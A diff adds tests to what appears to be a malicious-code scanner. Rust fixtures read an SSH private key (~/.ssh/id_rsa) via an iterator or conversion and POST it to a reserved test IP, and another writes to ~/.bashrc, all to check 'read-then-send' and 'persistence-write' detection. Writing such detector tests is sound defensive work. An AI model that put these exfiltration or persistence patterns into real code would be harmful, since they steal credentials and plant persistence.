@@ -127,3 +127,39 @@ test('instructions are hidden where nobody sees them, not where they are in anot
   for (const content of ['"می\\u{200c}خواهم"', '"\\u{feff}# Notes"'])
     expect(await claimsOf(writing(content))).not.toContain('hidden-instructions');
 });
+
+const reading = (made: string) => `
+  pub struct Sizes { left: Vec<String> }
+  impl Iterator for Sizes {
+    type Item = Vec<u8>;
+    fn next(&mut self) -> Option<Vec<u8>> { std::fs::read("/home/me/.ssh/id_rsa").ok() }
+  }
+  pub struct Letter { text: Vec<u8> }
+  pub struct Other { text: u8 }
+  impl From<Sizes> for Letter {
+    fn from(Sizes { left }: Sizes) -> Self { Letter { text: std::fs::read("/home/me/.ssh/id_rsa").unwrap() } }
+  }
+  static CLIENT: std::sync::LazyLock<ureq::Agent> = std::sync::LazyLock::new(|| ureq::agent());
+  pub fn go(sizes: Sizes, other: Other) { ${made} }`;
+
+test('what types of the crate give as iterators and conversions is what those functions make', async () => {
+  const sent = [
+    'for bytes in sizes { CLIENT.post("http://192.0.2.1/").send_bytes(&bytes); }',
+    'let letter: Letter = sizes.into(); CLIENT.post("http://192.0.2.1/").send_bytes(&letter.text);',
+  ];
+  for (const made of sent) expect(await claimsOf(reading(made)), made).toContain('read-then-send');
+  const kept = [
+    'for bytes in sizes { drop(bytes); } CLIENT.post("http://192.0.2.1/").send_bytes(&other.text);',
+    'let letter: Vec<u8> = other.into(); CLIENT.post("http://192.0.2.1/").send_bytes(&letter);',
+  ];
+  for (const made of kept) expect(await claimsOf(reading(made)), made).not.toContain('read-then-send');
+});
+
+const pushing = (made: string) => `pub fn go() { ${made} std::fs::write(place, "# inert"); }`;
+
+test('a path that is pushed to goes a step down, a name gets an ending', async () => {
+  const down = 'let mut place = std::path::PathBuf::from(std::env::var("HOME").unwrap()); place.push(".bashrc");';
+  const ending = 'let mut place = std::ffi::OsString::from("target/bashrc"); place.push(".bashrc");';
+  expect(await claimsOf(pushing(down))).toContain('persistence-write');
+  expect(await claimsOf(pushing(ending))).not.toContain('persistence-write');
+});
